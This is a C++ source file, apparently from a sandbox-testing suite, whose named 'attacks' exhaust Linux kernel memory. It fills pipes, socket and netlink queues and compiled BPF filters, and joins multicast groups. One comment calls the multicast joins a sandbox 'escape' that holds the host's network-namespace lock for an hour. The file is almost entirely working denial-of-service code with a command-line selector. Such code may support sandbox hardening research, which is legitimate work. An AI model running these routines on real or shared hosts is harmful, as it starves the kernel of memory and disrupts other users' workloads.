// Line 20: memory of the kernel in pipes and sockets.
#include <arpa/inet.h>
#include <linux/filter.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/sock_diag.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include "kernel_memory.hpp"

namespace {

using attack::Bytes;
using attack::g_block;
using attack::repeat;
using attack::spread;

Bytes write_all(int fd) {
  Bytes held = 0;
  ssize_t put = 0;
  while ((put = write(fd, g_block, sizeof g_block)) > 0) {
    held += static_cast<Bytes>(put);
  }
  return held;
}

Bytes pipes(Bytes goal) {
  Bytes held = 0;
  int pair[2];
  while (held < goal && pipe2(pair, O_NONBLOCK) == 0) {
    fcntl(pair[1], F_SETPIPE_SZ, 1 << 20);
    held += write_all(pair[1]);
  }
  return held;
}

Bytes sockets(Bytes goal) {
  Bytes held = 0;
  int pair[2];
  while (held < goal && socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair) == 0) {
    held += write_all(pair[0]) + write_all(pair[1]);
  }
  return held;
}

sockaddr_in loopback() {
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  return address;
}

// Connections that nobody reads from: what is sent waits in the receiver's queue. Few of them have
// full queues; of many each has the first message, which the kernel accepts under any limit.
template <int Most>
Bytes tcp(Bytes goal) {
  sockaddr_in address = loopback();
  socklen_t size = sizeof address;
  auto* name = reinterpret_cast<sockaddr*>(&address);
  int listener = socket(AF_INET, SOCK_STREAM, 0);
  if (bind(listener, name, size) != 0 || listen(listener, 1) != 0 ||
      getsockname(listener, name, &size) != 0) {
    return 0;
  }
  Bytes held = 0;
  for (int count = 0; count < Most && held < goal; ++count) {
    int near = socket(AF_INET, SOCK_STREAM, 0);
    if (near < 0 || connect(near, name, size) != 0) {
      break;
    }
    int far = accept(listener, nullptr, nullptr);
    if (far < 0) {
      break;
    }
    fcntl(near, F_SETFL, O_NONBLOCK);
    fcntl(far, F_SETFL, O_NONBLOCK);
    // The window opens while data moves: some more fits a moment later.
    for (int round = 0; round < 5; ++round) {
      held += write_all(near) + write_all(far);
      usleep(1000);
    }
  }
  return held;
}

// What the kernel itself says that a socket's queue holds.
Bytes queued(int fd) {
  unsigned figures[SK_MEMINFO_VARS] = {};
  socklen_t size = sizeof figures;
  if (getsockopt(fd, SOL_SOCKET, SO_MEMINFO, figures, &size) != 0) {
    return 0;
  }
  return figures[SK_MEMINFO_RMEM_ALLOC];
}

Bytes udp(Bytes goal) {
  Bytes held = 0;
  while (held < goal) {
    sockaddr_in address = loopback();
    socklen_t size = sizeof address;
    auto* name = reinterpret_cast<sockaddr*>(&address);
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    if (fd < 0 || bind(fd, name, size) != 0 || getsockname(fd, name, &size) != 0) {
      break;
    }
    int most = 1 << 30;
    setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &most, sizeof most);
    for (int i = 0; i < 16; ++i) {
      sendto(fd, g_block, 32768, 0, name, size);
    }
    held += queued(fd);
  }
  return held;
}

// Answers to questions about routes that nobody fetches.
Bytes netlink(Bytes goal) {
  Bytes held = 0;
  while (held < goal) {
    int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_NONBLOCK, NETLINK_ROUTE);
    if (fd < 0) {
      break;
    }
    int most = 1 << 30;
    setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &most, sizeof most);
    struct {
      nlmsghdr head;
      ifinfomsg body;
    } ask{};
    ask.head.nlmsg_len = sizeof ask;
    ask.head.nlmsg_type = RTM_GETLINK;
    ask.head.nlmsg_flags = NLM_F_REQUEST;
    ask.body.ifi_index = 1;
    for (int i = 0; i < 200; ++i) {
      (void)!send(fd, &ask, sizeof ask, 0);
    }
    held += queued(fd);
  }
  return held;
}

Bytes empty_sockets(Bytes goal) {
  return repeat(goal, 1024, [] { return socket(AF_INET, SOCK_STREAM, 0) >= 0; });
}

// Joining a group is the escape: nobody counts them for the sandbox, and taking 400,000 of them
// apart keeps the host's one lock of all network namespaces for an hour, after their end.
template <int Family>
void multicast() {
  int fd = socket(Family, SOCK_DGRAM, 0);
  if (fd < 0) {
    attack::broken("socket");
  }
  if (Family == AF_INET) {
    ip_mreqn group{};
    group.imr_ifindex = 1;
    group.imr_multiaddr.s_addr = htonl(0xe1000001);
    attack::verdict(setsockopt(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &group, sizeof group),
                    "IP_ADD_MEMBERSHIP");
  }
  ipv6_mreq group{};
  group.ipv6mr_interface = 1;
  group.ipv6mr_multiaddr.s6_addr[0] = 0xff;
  group.ipv6mr_multiaddr.s6_addr[1] = 0x05;
  group.ipv6mr_multiaddr.s6_addr[15] = 0x77;
  attack::verdict(setsockopt(fd, IPPROTO_IPV6, IPV6_JOIN_GROUP, &group, sizeof group),
                  "IPV6_JOIN_GROUP");
}

// The same for both families, by the calls that came later.
void multicast_group() {
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  group_req group{};
  group.gr_interface = 1;
  auto* address = reinterpret_cast<sockaddr_in*>(&group.gr_group);
  address->sin_family = AF_INET;
  address->sin_addr.s_addr = htonl(0xe1000002);
  attack::verdict(setsockopt(fd, IPPROTO_IP, MCAST_JOIN_GROUP, &group, sizeof group),
                  "MCAST_JOIN_GROUP");
}

// Filters of sockets, which the kernel keeps twice and compiles: machine code that belongs to
// nobody.
Bytes filters(Bytes goal) {
  static sock_filter code[4096];
  for (sock_filter& one : code) {
    one = {BPF_ALU | BPF_ADD | BPF_K, 0, 0, 0x12345678};
  }
  code[4095] = {BPF_RET | BPF_K, 0, 0, 0};
  sock_fprog program{4096, code};
  return repeat(goal, 32768, [&] {
    int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
    return fd >= 0 && setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program) == 0;
  });
}

constexpr attack::Attack kAttacks[] = {{"pipes", spread<pipes>},
                                       {"sockets", spread<sockets>},
                                       {"tcp", spread<tcp<4>>},
                                       {"tcp_crowd", spread<tcp<1000>>},
                                       {"udp", spread<udp>},
                                       {"netlink", spread<netlink>},
                                       {"empty_sockets", spread<empty_sockets>},
                                       {"multicast", multicast<AF_INET>},
                                       {"multicast6", multicast<AF_INET6>},
                                       {"multicast_group", multicast_group},
                                       {"filters", spread<filters>}};

}  // namespace

int main(int argc, char** argv) { return attack::choose(argc, argv, kAttacks); }
